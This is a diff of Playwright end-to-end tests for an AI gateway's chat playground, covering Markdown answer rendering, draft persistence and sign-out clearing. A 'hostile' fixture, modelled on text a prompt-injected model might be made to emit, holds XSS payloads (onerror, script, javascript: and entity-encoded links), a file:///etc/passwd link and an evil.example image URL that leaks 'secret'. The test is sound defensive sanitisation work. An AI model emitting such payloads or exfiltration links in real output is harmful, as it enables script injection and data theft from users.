@@ -1,8 +1,17 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
-import type { BrowserContext, Page } from 'playwright-core';
+import type { BrowserContext, Locator, Page } from 'playwright-core';
+import { eventually } from '../support/eventually.ts';
 import { TestGateway } from '../support/gateway.ts';
-import { faultsInEveryView, openPage, type Session, settled, TestBrowser, type WatchedPage } from './browser.ts';
+import {
+  faultsInEveryView,
+  openPage,
+  type Session,
+  settled,
+  signUp,
+  TestBrowser,
+  type WatchedPage,
+} from './browser.ts';
 import { operatorSession, operatorSettings } from './operator-session.ts';
 
 let gateway: TestGateway;
@@ -12,7 +21,10 @@ let session: Session;
 let context: BrowserContext;
 
 before(async () => {
-  [gateway, browser] = await Promise.all([TestGateway.start({ settings: operatorSettings }), TestBrowser.start()]);
+  [gateway, browser] = await Promise.all([
+    TestGateway.start({ settings: { ...operatorSettings, SLUICE_SIGN_UP_CREDIT: '1' } }),
+    TestBrowser.start(),
+  ]);
   session = await operatorSession(browser, gateway);
   context = await browser.context(gateway.url, 'light', session);
 });
@@ -123,6 +135,14 @@ describe('chat', () => {
       await page.getByRole('tab', { name: 'Chat' }).click();
       assert.equal(await answers(page).count(), 1);
       assert.equal(await page.getByLabel('Message').inputValue(), 'a draft');
+      // Times are told once, as they were here.
+      const told = (await answers(page).textContent()) ?? '';
+      assert.match(told, /first word after .+, all after /);
+      assert.equal(told.match(/[\d.,]+ m?s/g)?.length, 2, told);
+      // What only completes texts is no chat.
+      await page.getByRole('combobox', { name: 'Model' }).click();
+      await page.getByRole('option', { name: 'sandbox-reasoning' }).waitFor();
+      assert.equal(await page.getByRole('option', { name: 'sandbox-instruct' }).count(), 0);
     });
   });
 
@@ -202,9 +222,149 @@ describe('chat', () => {
       await assertReadable(page, 'playground-code');
       await page.keyboard.press('Escape');
       await page.getByRole('dialog').waitFor({ state: 'detached' });
+      // After the answer it is the request that the answer came of.
+      await page.getByLabel('Message').press('Enter');
+      await page.getByTestId('job-cost').waitFor();
+      await page.getByRole('button', { name: 'Copy as code' }).click();
+      await page.getByRole('dialog').getByRole('button', { name: /Cop/ }).click();
+      const curl = await page.evaluate<string>('navigator.clipboard.readText()');
+      assert.match(curl, /"content": "It'\\''s me"/);
+      assert.doesNotMatch(curl, /assistant/);
     });
   });
 });
+
+/** What a page that a model has read may have told it to write. */
+const hostile = `# A heading
+
+**bold** and \`code\` and <b>html</b> <img src="https://evil.example/1.png" onerror="document.title='run'">
+
+<script>document.title = 'run'</script>
+
+<iframe src="https://evil.example/frame"></iframe><link rel="stylesheet" href="https://evil.example/style.css">
+
+![what was said](https://evil.example/2.png?said=secret) ![own](/console/api/jobs?picture) ![data](data:image/png;base64,iVBORw0KGgo=)
+
+[good](https://good.example/path) <https://auto.example> [post](mailto:ada@example.com) www.bare.example
+
+[script](javascript:document.title='run') [own](/console/api/auth/sign-out) [any](//evil.example/any) [text](data:text/html,run)
+[file](file:///etc/passwd) [entity](java&#115;cript:document.title='run') [note][^1] ![late][late]
+
+[^1]: A note.
+
+[late]: https://evil.example/3.png
+
+- [x] done
+- [ ] open
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+\`\`\`js
+const quoted = '<b>';
+\`\`\`
+`;
+
+describe('answers', () => {
+  test('are Markdown of which nothing is run and nothing is loaded, and which only lead where links may', async () => {
+    await onTab('chat', async (page) => {
+      await say(page, 'Reply with exactly: # First\n\nIt loads what draws answers.');
+      await answers(page).getByRole('heading', { name: 'First' }).waitFor();
+      const requests: string[] = [];
+      page.on('request', (request) => requests.push(request.url()));
+      await say(page, `Reply with exactly: ${hostile}`);
+      const answer = answers(page).nth(1);
+      await answer.getByTestId('job-cost').getByText('$').waitFor();
+      await answer.getByRole('heading', { name: 'A heading' }).waitFor();
+      assert.equal(await answer.locator('b, img, script, iframe, link, style, input, object, svg image').count(), 0);
+      const links = await answer
+        .locator('a[target]')
+        .evaluateAll((all: { getAttribute(name: string): string }[]) =>
+          all.map((link) => `${link.getAttribute('href')} ${link.getAttribute('rel')}`),
+        );
+      const apart = 'noopener noreferrer';
+      assert.deepEqual(links, [
+        `https://evil.example/2.png?said=secret ${apart}`,
+        `https://good.example/path ${apart}`,
+        `https://auto.example/ ${apart}`,
+        `mailto:ada@example.com ${apart}`,
+        `http://www.bare.example/ ${apart}`,
+        `https://evil.example/3.png ${apart}`,
+      ]);
+      // The one that is left is our own, to the job.
+      assert.equal(await answer.locator('a').count(), links.length + 1);
+      assert.equal(await answer.getByRole('table').getByRole('cell').count(), 2);
+      await answer.getByRole('button', { name: 'Copy' }).click();
+      assert.equal(await page.evaluate<string>('navigator.clipboard.readText()'), "const quoted = '<b>';");
+      await assertReadable(page, 'playground-markdown');
+      const allowed = new RegExp(`^${gateway.url}/console/(api/(v1/chat/completions|jobs/job_|session$)|assets/)`);
+      assert.deepEqual(
+        requests.filter((url) => !allowed.test(url)),
+        [],
+      );
+      assert.notEqual(await page.title(), 'run');
+      const headers = (await page.request.get('/console/')).headers();
+      assert.equal(headers['x-dns-prefetch-control'], 'off');
+      await longChatKeeps(page);
+    });
+  });
+
+  test('and what is typed outlast a reload, and go when their reader signs out', async () => {
+    const own = await browser.context(gateway.url);
+    const page = await openPage(own);
+    await signUp(page, 'reload@example.com');
+    await page.goto('/console/playground');
+    await settled(page);
+    await say(page, 'Reply with exactly: it is kept');
+    await answers(page).getByText('it is kept', { exact: true }).waitFor();
+    await page.getByLabel('System prompt').fill('Be short.');
+    await page.getByLabel('Message').fill('a draft');
+    await page.reload();
+    await answers(page).getByText('it is kept', { exact: true }).waitFor();
+    assert.equal(await page.getByLabel('Message').inputValue(), 'a draft');
+    assert.equal(await page.getByLabel('System prompt').inputValue(), 'Be short.');
+    const kept = 'JSON.stringify(sessionStorage)';
+    assert.match(await page.evaluate<string>(kept), /it is kept/);
+    // Another tab of the same browser forgets with it.
+    const other = await openPage(own);
+    await other.goto('/console/playground');
+    await other.getByLabel('Message').fill('another draft');
+    await eventually(async () => assert.match(await other.evaluate<string>(kept), /another draft/));
+    await page.getByRole('button', { name: 'Account menu' }).click();
+    await page.getByRole('menuitem', { name: 'Sign out' }).click();
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
+    for (const tab of [page, other]) {
+      await eventually(async () =>
+        assert.doesNotMatch(await tab.evaluate<string>(kept), /it is kept|draft|Be short/, 'it is still kept'),
+      );
+    }
+    await signUp(page, 'next@example.com');
+    await page.goto('/console/playground');
+    await settled(page);
+    assert.equal(await answers(page).count(), 0);
+    assert.deepEqual(page.troubles, []);
+    await own.close();
+  });
+});
+
+/** A chat that is longer than the window: its end, and where the next message is written, are in sight. */
+async function longChatKeeps(page: WatchedPage): Promise<void> {
+  await say(page, `Reply with exactly: ${'A line.\n\n'.repeat(60)}The end.`);
+  await answers(page).nth(2).getByText('all after').waitFor();
+  await eventually(async () => {
+    assert.ok(await isInWindow(answers(page).nth(2).getByText('The end.')), 'the end of the answer is out of sight');
+  });
+  for (const top of [0, 1000, 100_000]) {
+    await page.evaluate(`scrollTo(0, ${top})`);
+    assert.ok(await isInWindow(page.getByLabel('Message')), `the field is out of sight, scrolled to ${top}`);
+  }
+}
+
+async function isInWindow(part: Locator): Promise<boolean> {
+  const box = await part.boundingBox();
+  return box !== null && box.y >= 0 && box.y + box.height <= 900;
+}
 
 describe('media', () => {
   test('a picture appears', async () => {
@@ -231,6 +391,9 @@ describe('media', () => {
       await page.keyboard.press('Escape');
       await page.getByRole('button', { name: 'Make pictures' }).click();
       await page.getByRole('alert').getByText(/size/).waitFor();
+      // It is no job: there is nothing to read of it.
+      assert.equal(await page.getByText('Reading its cost').count(), 0);
+      assert.equal(await page.getByTestId('job-cost').count(), 0);
     });
   });
 
